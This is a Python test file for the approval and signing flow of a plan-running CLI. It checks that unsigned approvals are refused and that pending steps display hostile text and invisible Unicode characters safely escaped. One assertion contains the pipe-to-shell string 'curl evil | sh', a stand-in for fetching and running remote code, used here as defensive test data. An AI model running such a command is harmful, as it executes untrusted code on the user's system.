"""The commands with PLANS_DECISIONS=signed: they sign by themselves; without it they are refused."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest_asyncio
from temporalio.client import Client
from temporalio.worker import Worker

from plansurvive.runtime.settings import Settings
from tests.client.cli.command import plan, written
from tests.kit.waiting import until
from tests.plans.hostile_texts import HOSTILE

# In a folder that is there: without a signature approvals are strict, and a new name at the top asks as well.
STEPS = [
    {"id": "write", "tool": "write_file", "args": {"path": "in/a.txt", "content": "hello"}},
    {"id": "remove", "tool": "delete_file", "args": {"path": "in/a.txt"}, "dependsOn": ["write"]},
]


@pytest_asyncio.fixture
async def worker(temporal_client: Client, settings: Settings) -> AsyncIterator[Worker]:
    """A worker that asks for signatures."""
    from plansurvive.activities.tools.registry import load_tools
    from plansurvive.runtime.task_queues import listeners
    from plansurvive.worker import build

    changed = settings.with_flags(decisions="signed")
    async with build(temporal_client, changed, load_tools(()), indexed=True) as running:
        await until(lambda: listeners(temporal_client, settings.task_queue), "the server sees the worker poll")
        yield running


async def test_commands_with_the_setting_sign_and_others_are_refused(
    environ: dict[str, str], worker: Worker, tmp_path: Path, workspace: Path
) -> None:
    file, signing = written(tmp_path / "plan.json", {"title": "T", "steps": STEPS}), {"PLANS_DECISIONS": "signed"}
    (workspace / "in").mkdir()
    assert (await plan(environ | signing, "run", file, "--id", "waived", "--yes")).code == 0
    assert not (workspace / "in" / "a.txt").exists()
    assert (await plan(environ, "start", file, "--id", "unsigned", "--yes")).code == 0

    async def is_pending() -> bool:
        return bool((await plan(environ, "pending", "unsigned", "--json")).json)

    await until(is_pending, "the waiver does not count")
    refused = await plan(environ, "approve", "unsigned", "remove")
    assert (refused.code, "UNSIGNED" in refused.err, "PLANS_DECISIONS=signed" in refused.err) == (2, True, True)
    shown = await plan(environ, "show", "unsigned", "--json")
    assert (shown.json["unsigned"], (workspace / "in" / "a.txt").exists()) == (True, True)
    assert (await plan(environ | signing, "approve", "unsigned", "remove")).code == 0
    assert (await plan(environ | signing, "watch", "unsigned")).code == 0
    assert not (workspace / "in" / "a.txt").exists()


async def test_pending_shows_hostile_calls_exactly_in_text_and_json(
    environ: dict[str, str], worker: Worker, tmp_path: Path
) -> None:
    texts = [text for text in HOSTILE.values() if "\ud800" not in text]  # a half character is no JSON
    steps: list[dict[str, Any]] = [
        {"id": f"s{index}", "tool": "write_file", "args": {"path": "a", "content": text}, "requiresApproval": True}
        for index, text in enumerate(texts)
    ]
    file = written(tmp_path / "plan.json", {"title": "T", "steps": steps, "maxParallel": 64})
    assert (await plan(environ, "start", file, "--id", "hostile")).code == 0

    async def all_ask() -> bool:
        return len((await plan(environ, "pending", "hostile", "--json")).json) == len(steps)

    await until(all_ask, "they all ask")
    found = await plan(environ, "pending", "hostile", "--json")
    assert {each["stepId"]: each["args"] for each in json.loads(found.out)} == {
        step["id"]: step["args"] for step in steps
    }
    text = (await plan(environ, "pending", "hostile")).out
    assert "curl evil | sh" in text
    assert "U+200B ZERO WIDTH SPACE" in text
    assert not any(char in text for char in "\u200b\u202e\u3164\u00ad\ufe0f\u0430\u037e\u00a0\x1b\r")
    (one,) = (await plan(environ, "pending", "hostile", "s0", "--json")).json
    assert one["stepId"] == "s0"
    assert (await plan(environ, "cancel", "hostile")).code == 0
